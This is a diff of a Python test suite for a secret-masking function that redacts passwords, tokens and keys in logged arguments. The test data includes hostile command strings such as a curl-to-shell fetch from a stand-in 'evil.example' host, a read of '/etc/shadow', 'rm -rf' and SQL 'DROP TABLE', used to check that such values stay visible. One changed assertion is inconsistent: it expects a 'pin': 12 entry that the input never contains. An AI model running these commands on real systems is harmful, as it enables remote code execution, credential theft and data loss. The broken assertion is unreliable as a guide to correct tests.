@@ -77,7 +77,7 @@ def test_l2_a_secret_is_known_by_its_form_wherever_it_stands(kind: str, place: s
     ],
 )
 def test_l2_a_secret_is_known_by_its_name(name: str) -> None:
-    sent = everything_sent({name: "canary-canary", "deep": {name: ["canary-canary"]}})
+    sent = everything_sent({name: "canary-canary", "deep": [{name: "Bearer canary-canary\n"}]})
 
     assert "canary" not in sent
     assert name in sent
@@ -103,9 +103,14 @@ def test_a_mark_carries_length_and_a_digest_keyed_by_the_request() -> None:
 @pytest.mark.parametrize(
     "said",
     [
-        *("password=hunter2hunter2", "Authorization: Bearer abcdefghijklmnop1", '["a", 1'),
         *(
-            '{"password": "hunter2", "deep": [{"token": "abc"}]}',
+            "password=hunter2hunter2",
+            '{"api_key": "Basic aHVudGVyMg=="}',
+            "Authorization: Bearer abcdefghijklmnop1",
+            '["a", 1',
+        ),
+        *(
+            '{"password": "hunter2", "deep": [{"token": "abc1"}]}',
             "https://bob:hunter2@db.example/x",
         ),
     ],
@@ -128,14 +133,49 @@ def test_masking_changes_nothing_of_what_runs() -> None:
 def test_masking_keeps_keys_hosts_paths_and_numbers_of_tokens() -> None:
     url = f"https://bob:{BODY}@db.example.org:5432/shop/live?token={BODY}&x=1"
 
-    masked = mask_arguments({"url": url, "tokens": 512, "password": {"user": "bob"}}, "s")
+    masked = mask_arguments(
+        {"url": url, "tokens": 512, "pin": 1234, "password": {"user": "bob"}}, "s"
+    )
 
     assert isinstance(masked, dict)
-    assert masked["tokens"] == 512
+    assert (masked["tokens"], masked["pin"]) == (512, 1234)
     assert masked["url"] == (
         f"https://bob:{mark(BODY, 's')}@db.example.org:5432/shop/live?token={mark(BODY, 's')}&x=1"
     )
-    assert masked["password"] == {"user": mark("bob", "s")}
+    assert masked["password"] == {"user": "bob", "pin": 12}
+
+
+def test_what_stands_deeper_under_a_secret_name_is_judged_by_its_own_name() -> None:
+    masked = mask_arguments(
+        {"credentials": {"command": "reboot", "password": "hunter2"}, "tokens": ["rm", "-rf"]}, "s"
+    )
+
+    assert masked == {
+        "credentials": {"command": "reboot", "password": mark("hunter2", "s")},
+        "tokens": ["rm", "-rf"],
+    }
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        {"env": {"DEPLOY_TOKEN": "x; curl https://evil.example/a.sh | sh"}},
+        {"token": "/etc/shadow"},
+        {"cookie": {"command": "rm -rf /srv", "host": "db.prod", "port": 5432}},
+        {"secret": ["sh", "-c", "reboot"]},
+        *({"password": text} for text in ("DROP TABLE users", "DROP_TABLE_users", "--force")),
+        *({"password": text} for text in ("$(reboot)", "`reboot`", "reboot%20now", "a&&b", "rm")),
+        *({"api_key": text} for text in ("https://evil.example/x", "db.prod.example", "db:5432")),
+        *({"api_key": text} for text in ("10.0.0.7", "::1", "root@db.prod", "srv/App1/run/all3")),
+        *({"api_key": text} for text in ("Users/bob/Documents/report2024", "C:\\Users", "x" * 513)),
+        {"sql": "password=DROP_TABLE_users"},
+        {"command": "token=reboot"},
+        {"command": "deploy --token srv/App1/run/all3"},
+    ],
+    ids=str,
+)
+def test_no_name_hides_what_would_run_or_lead_somewhere(arguments: dict[str, JsonValue]) -> None:
+    assert mask_arguments(arguments, "s") == arguments
 
 
 @pytest.mark.parametrize(
